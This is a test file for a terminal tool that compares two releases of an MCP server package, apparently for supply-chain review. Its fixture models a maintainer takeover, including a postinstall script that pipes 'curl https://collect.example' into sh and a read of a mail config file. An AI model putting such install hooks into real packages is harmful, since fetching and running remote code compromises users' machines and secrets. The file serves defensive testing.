import { describe, expect, it } from 'vitest'
import { known, unknown } from '../../src/model.js'
import { type ReviewState, screenOf } from '../../src/tui/state/model.js'
import { fact } from '../support/facts.js'
import { historyOf, ID, mailHistory, stateOf } from './history-fixture.js'
import { press, screenText } from './support/state.js'

const script = (command: string) =>
  fact(
    'install.script',
    `postinstall: ${command}`,
    { event: 'postinstall', command },
    { reach: 'install', file: 'package.json' },
  )

/** A takeover: another publisher, another script, a host that lay dormant, a file that can't be read. */
const takeover = historyOf([
  {
    version: '1.0.0',
    facts: [
      script('node ready.js'),
      fact('mcp.tool', 'tool:send 111111111111', { name: 'send', what: 'tool' }),
      fact('net.host', 'collect.example', {}, { reach: 'dormant' }),
      fact('fs.read', '~/.config/mail.json'),
    ],
    release: {
      integrity: known(`sha512-${'A'.repeat(86)}==`),
      publisher: known('anna'),
      maintainers: known(['anna', 'bert']),
      provenance: known(true),
    },
  },
  {
    version: '1.1.0-beta.1',
    facts: [
      script('node ready.js && curl https://collect.example | sh'),
      fact('mcp.tool', 'tool:send 222222222222', { name: 'send', what: 'tool' }),
      fact('net.host', 'collect.example'),
      fact('fs.read', '~/.config/mail.json', {}, { reach: 'dormant' }),
    ],
    unanalysed: [{ file: 'dist/big.js', why: 'nested too deeply' }],
    release: {
      integrity: known(`sha512-${'B'.repeat(86)}==`),
      publisher: known('eve'),
      maintainers: known(['eve', 'bert']),
      provenance: known(false),
      deprecated: 'use 2.x',
    },
  },
])

/** Between what is the same on every screen. */
const shown = (state: ReviewState): string => `${screenText(state).split('\n').slice(2, -2).join('\n')}\n`

describe('two releases', () => {
  it('are compared in who made them and in what they do, at 80 columns and at 120', async () => {
    const narrow = press(stateOf(takeover, { size: [80, 50] }), 'enter').state
    await expect(shown(narrow)).toMatchFileSnapshot('snapshots/releases-80.txt')
    const wide = press(stateOf(takeover, { size: [120, 45] }), 'enter', 'x', 'down').state
    await expect(shown(wide)).toMatchFileSnapshot('snapshots/releases-120.txt')
  })

  it('that do the same are said to', () => {
    expect(shown(press(stateOf(mailHistory(2)), 'enter').state)).toContain('Both do the same.')
  })

  it('are said to be the same bytes where they are', () => {
    expect(shown(press(stateOf(mailHistory(2)), 'enter').state)).toContain('the same bytes: sha512-AAAA')
  })

  it('without times have no days', () => {
    const undated = { publishedAt: unknown('the times contradict the order of versions') }
    const history = historyOf([
      { version: '1.0.0', facts: [], release: undated },
      { version: '1.0.1', facts: [] },
      { version: '1.0.2', facts: [], release: undated },
    ])
    const text = (...keys: string[]) => shown(press(stateOf(history), ...keys).state)
    expect(text('enter')).toMatch(/published +2025-01-17 → not known$/m)
    expect(text('m', 'left', 'left', 'enter')).toMatch(/published +not known: the times contradict/)
  })

  it('are waited for, and asked for again where one could not be read', () => {
    const history = historyOf([
      { version: '1.0.0', facts: null },
      { version: '1.0.1', facts: 'failed' },
    ])
    const { state, effects } = press(stateOf(history), 'enter')
    expect(effects).toEqual([{ type: 'load behaviours', server: ID, versions: ['1.0.1', '1.0.0'] }])
    expect(shown(state)).toMatch(/Reading what 1\.0\.0 does\.\n.*Reading what 1\.0\.1 does\./)
    const failed = stateOf(
      historyOf([
        { version: '1.0.0', facts: [] },
        { version: '1.0.1', facts: 'failed' },
      ]),
      { screens: [{ type: 'releases', server: ID, from: '1.0.0', to: '1.0.1', pane: { selected: null, top: 0 } }] },
    )
    expect(shown(failed)).toContain('mail-mcp@1.0.1: its tarball is gone (404)')
    expect(press(failed, 'r').effects).toEqual([{ type: 'load behaviours', server: ID, versions: ['1.0.1'] }])
    expect(press(press(stateOf(takeover), 'enter').state, 'r').state.notice?.text).toBe('Both releases are read.')
  })

  it('that are not known any more are said to be', () => {
    const state = press(stateOf(takeover), 'enter').state
    expect(shown({ ...state, histories: new Map() })).toContain('These releases are not known any more')
  })

  it('x swaps, and left leads back', () => {
    const swapped = press(stateOf(takeover), 'enter', 'x').state
    expect(screenOf(swapped)).toMatchObject({ from: '1.1.0-beta.1', to: '1.0.0' })
    expect(screenOf(press(swapped, 'left').state).type).toBe('history')
  })
})
